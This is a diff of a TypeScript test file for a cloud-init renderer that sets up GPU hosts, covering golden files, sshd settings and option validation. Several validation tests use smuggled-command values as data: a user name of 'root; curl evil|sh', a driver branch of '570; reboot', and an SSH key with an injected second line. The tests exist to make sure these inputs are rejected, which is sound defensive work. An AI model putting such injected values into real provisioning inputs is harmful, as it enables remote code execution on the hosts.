@@ -1,26 +1,16 @@
 // cloud-init renderer: golden files, the traps a reviewer checks for, and validation with the
-// real tools. Golden files: run `UPDATE_GOLDEN=1 npx mocha test/cloudInit.test.ts` to rewrite
-// test/golden/cloud-init.*.yaml after an intended change, then review the diff.
+// real tools. Golden files: run `UPDATE_GOLDEN=1 /work/tools/m test/tools/cloudInit.test.ts` to
+// rewrite test/golden/cloud-init.*.yaml after an intended change, then review the diff.
 import * as assert from "assert";
 import { spawnSync } from "child_process";
 import * as fs from "fs";
 import * as os from "os";
 import * as path from "path";
 import * as YAML from "yaml";
-import {
-    CloudInitOptions,
-    CLOUD_INIT_DEFAULTS,
-    DOCKER_DAEMON_JSON_PATH,
-    REBOOT_REQUIRED_MARKER,
-    renderCloudInit,
-    resolveCloudInitOptions,
-    SETUP_DONE_MARKER,
-    SETUP_SCRIPT_PATH,
-    setupScript,
-    SSHD_DROP_IN_PATH,
-    sshdDropIn,
-    validateCloudInitOptions,
-} from "../../cloud-init/render";
+import { CloudInitOptions, renderCloudInit, SETUP_SCRIPT_PATH, validateCloudInitOptions } from "../../cloud-init/render";
+import { DOCKER_LOG_ROTATION } from "../../infra/config/fixed";
+import { REBOOT_REQUIRED_MARKER, SETUP_DONE_MARKER } from "../../infra/shell/host";
+import { DOCKER_DAEMON_JSON_PATH, SSHD_DROP_IN_PATH, setupScript, sshdDropIn } from "../../infra/shell/setup";
 import { assertShellcheckClean, assertValidCloudConfig, extractShellSnippets } from "../helpers/cloudInitChecks";
 import { requireTool } from "../helpers/tools";
 
@@ -28,18 +18,21 @@ const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq3Jm0oKjZ2c3b1hXl5m0V8l6mQb0d
 const KEY2 =
     "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBHq3Jm0oKjZ2c3b1hXl5m0V8l6mQ= ci@gpu-hosts";
 
+/** What the program passes for a stack with the config's defaults (sshUser, driver branch) and the fixed log rotation. */
+const BASE: CloudInitOptions = { sshUser: "ubuntu", createUser: true, sshAuthorizedKeys: [], nvidiaDriverBranch: "570-server", dockerLog: DOCKER_LOG_ROTATION };
+
 /** One representative option set per golden file. */
 const CASES: Record<string, CloudInitOptions> = {
     // AWS/GCP shape: cloud-init creates the user.
-    default: { sshAuthorizedKeys: [KEY] },
+    default: { ...BASE, sshAuthorizedKeys: [KEY] },
     // Azure shape: the VM resource creates the admin user and its keys.
-    azure: { sshUser: "azureuser", createUser: false },
+    azure: { ...BASE, sshUser: "azureuser", createUser: false },
     custom: {
         sshUser: "gpuadmin",
+        createUser: true,
         sshAuthorizedKeys: [KEY, KEY2],
         nvidiaDriverBranch: "550-server-open",
-        dockerLogMaxSize: "50m",
-        dockerLogMaxFile: 5,
+        dockerLog: { maxSize: "50m", maxFile: 5 },
         hostname: "gpu-dev-aws",
     },
 };
@@ -96,7 +89,7 @@ describe("cloud-init renderer", () => {
         it("raises sshd's MaxStartups and MaxSessions for the Docker provider's parallel SSH sessions, as the real sshd reads them", function () {
             // The setup script writes the drop-in and reloads sshd (test/tools/setupScript.test.ts runs that).
             assert.ok(script.includes(`| put ${SSHD_DROP_IN_PATH} 0644; then`));
-            assert.deepStrictEqual(sshdDropIn().split("\n").filter((l) => l && !l.startsWith("#")), ["MaxStartups 64:30:128", "MaxSessions 64"]);
+            assert.deepStrictEqual(sshdDropIn().split("\n").filter((l: string) => l && !l.startsWith("#")), ["MaxStartups 64:30:128", "MaxSessions 64"]);
             const sshd = requireTool("sshd", this);
             const keygen = requireTool("ssh-keygen", this);
             const dir = fs.mkdtempSync(path.join(os.tmpdir(), "gpu-hosts-sshd-"));
@@ -115,7 +108,7 @@ describe("cloud-init renderer", () => {
 
         it("writes nothing but the setup script: the same script an operator's server gets over SSH", () => {
             assert.deepStrictEqual(config.write_files.map((f: { path: string }) => f.path), [SETUP_SCRIPT_PATH]);
-            assert.strictEqual(script, setupScript({ sshUser: "ubuntu", gpu: true, nvidiaDriverBranch: "570-server", dockerLogMaxSize: "10m", dockerLogMaxFile: 3 }));
+            assert.strictEqual(script, setupScript({ sshUser: "ubuntu", gpu: true, nvidiaDriverBranch: "570-server", dockerLog: DOCKER_LOG_ROTATION }));
         });
 
         it("is deterministic and does not mutate its options", () => {
@@ -261,33 +254,23 @@ describe("cloud-init renderer", () => {
         });
 
         it("trims the trailing newline of tls.PrivateKey.publicKeyOpenssh", () => {
-            assert.deepStrictEqual(parse(renderCloudInit({ sshAuthorizedKeys: [`${KEY}\n`] })).users[0].ssh_authorized_keys, [KEY]);
+            assert.deepStrictEqual(parse(renderCloudInit({ ...BASE, sshAuthorizedKeys: [`${KEY}\n`] })).users[0].ssh_authorized_keys, [KEY]);
         });
     });
 
     describe("options", () => {
-        it("resolves every default in one place", () => {
-            assert.deepStrictEqual(resolveCloudInitOptions({ sshAuthorizedKeys: [KEY] }), {
-                ...CLOUD_INIT_DEFAULTS,
-                sshAuthorizedKeys: [KEY],
-            });
-            assert.deepStrictEqual(CLOUD_INIT_DEFAULTS, {
-                sshUser: "ubuntu",
-                createUser: true,
-                sshAuthorizedKeys: [],
-                nvidiaDriverBranch: "570-server",
-                dockerLogMaxSize: "10m",
-                dockerLogMaxFile: 3,
-            });
+        it("holds no defaults: every option but the hostname is required (the config and infra/config/fixed.ts resolve them)", () => {
+            // A type error if any became optional again; the program passes each one.
+            const required: Required<Omit<CloudInitOptions, "hostname">> = BASE;
+            assert.deepStrictEqual(Object.keys(required).sort(), ["createUser", "dockerLog", "nvidiaDriverBranch", "sshAuthorizedKeys", "sshUser"]);
+            const source = fs.readFileSync(path.join(__dirname, "..", "..", "cloud-init", "render.ts"), "utf8");
+            assert.doesNotMatch(source, /"570-server"|"ubuntu"|"10m"|DEFAULTS/, "no default of the config's written again");
         });
 
-        it("rejects a bad driver branch, naming the option, the value and what is allowed", () => {
+        it("rejects a bad driver branch, naming the option, the value and what is allowed (infra/validators.ts)", () => {
             assert.throws(
                 () => renderCloudInit({ ...CASES.default, nvidiaDriverBranch: "570; reboot" }),
-                {
-                    message:
-                        'cloud-init option nvidiaDriverBranch must be an Ubuntu NVIDIA server driver branch matching /^[0-9]{3}-server(-open)?$/, e.g. "570-server" or "570-server-open", got "570; reboot"',
-                },
+                { message: 'cloud-init option nvidiaDriverBranch must be an Ubuntu NVIDIA server driver branch such as "570-server" or "570-server-open", got "570; reboot"' },
             );
             for (const bad of ["570", "nvidia-570-server", "570-server\n", "570-open", ""]) {
                 assert.throws(() => renderCloudInit({ ...CASES.default, nvidiaDriverBranch: bad }), /nvidiaDriverBranch/);
@@ -300,35 +283,42 @@ describe("cloud-init renderer", () => {
         it("reports every problem at once", () => {
             const problems = validateCloudInitOptions({
                 sshUser: "root; curl evil|sh",
+                createUser: true,
                 sshAuthorizedKeys: ["not a key"],
                 nvidiaDriverBranch: "latest",
-                dockerLogMaxSize: "10 MB",
-                dockerLogMaxFile: 0,
-                hostname: "Bad_Host",
+                dockerLog: { maxSize: "10 MB", maxFile: 0 },
+                hostname: "bad_host.example",
             });
             assert.deepStrictEqual(problems, [
-                'cloud-init option sshUser must be a Linux user name matching /^[a-z_][a-z0-9_-]{0,31}$/, got "root; curl evil|sh"',
-                'cloud-init option sshAuthorizedKeys[0] must be a one-line OpenSSH public key ("ssh-ed25519 AAAA... comment"), got "not a key"',
-                'cloud-init option nvidiaDriverBranch must be an Ubuntu NVIDIA server driver branch matching /^[0-9]{3}-server(-open)?$/, e.g. "570-server" or "570-server-open", got "latest"',
-                'cloud-init option dockerLogMaxSize must be a size like "10m" (a positive integer followed by k, m or g), got "10 MB"',
-                "cloud-init option dockerLogMaxFile must be an integer from 1 to 100, got 0",
-                "cloud-init option hostname must be a lowercase DNS label (a-z, 0-9, '-', at most 63 characters), got \"Bad_Host\"",
+                'cloud-init option sshUser must be a Linux user name, e.g. "ubuntu", got "root; curl evil|sh"',
+                'cloud-init option nvidiaDriverBranch must be an Ubuntu NVIDIA server driver branch such as "570-server" or "570-server-open", got "latest"',
+                'cloud-init option dockerLog.maxSize must be a size like "10m" (a positive integer followed by k, m or g), got "10 MB"',
+                "cloud-init option dockerLog.maxFile must be an integer from 1 to 100, got 0",
+                'cloud-init option sshAuthorizedKeys[0] must be an OpenSSH public key line (ssh-ed25519, ssh-rsa, ecdsa-sha2-nistp*, sk-ssh-ed25519@openssh.com or sk-ecdsa-sha2-nistp256@openssh.com), got "not a key"',
+                'cloud-init option hostname must be a single DNS label (letters, digits and \'-\', at most 63 characters), e.g. "gpu-dev-aws", got "bad_host.example"',
             ]);
-            assert.throws(() => resolveCloudInitOptions({ sshUser: "x y", nvidiaDriverBranch: "1" }), (e: Error) => {
-                assert.strictEqual(e.message.split("\n").length, 3); // sshUser, no keys, branch
+            assert.throws(() => renderCloudInit({ ...BASE, sshUser: "x y", nvidiaDriverBranch: "1" }), (e: Error) => {
+                assert.strictEqual(e.message.split("\n").length, 3); // sshUser, branch, no keys
                 return true;
             });
         });
 
+        it("accepts what the config accepts: every key type of infra/validators.ts, and a hostname with capitals", () => {
+            for (const key of [KEY, KEY2, "sk-ssh-ed25519@openssh.com AAAAGnNrLXNzaC1lZDI1NTE5QG9wZW5zc2guY29t op", "ssh-rsa AAAAB3NzaC1yc2E="]) {
+                assert.deepStrictEqual(validateCloudInitOptions({ ...BASE, sshAuthorizedKeys: [key] }), [], key);
+            }
+            assert.deepStrictEqual(validateCloudInitOptions({ ...CASES.default, hostname: "GPU-1" }), []);
+        });
+
         it("requires a key when it creates the user", () => {
-            assert.deepStrictEqual(validateCloudInitOptions({}), [
+            assert.deepStrictEqual(validateCloudInitOptions(BASE), [
                 "cloud-init option sshAuthorizedKeys must be at least one key when createUser is true, got []",
             ]);
-            assert.deepStrictEqual(validateCloudInitOptions({ createUser: false }), []);
+            assert.deepStrictEqual(validateCloudInitOptions({ ...BASE, createUser: false }), []);
         });
 
         it("rejects keys that would smuggle in a second line", () => {
-            assert.throws(() => renderCloudInit({ sshAuthorizedKeys: [`${KEY}\nssh-ed25519 AAAAevil x`] }), /sshAuthorizedKeys\[0\]/);
+            assert.throws(() => renderCloudInit({ ...BASE, sshAuthorizedKeys: [`${KEY}\nssh-ed25519 AAAAevil x`] }), /sshAuthorizedKeys\[0\]/);
         });
     });
 
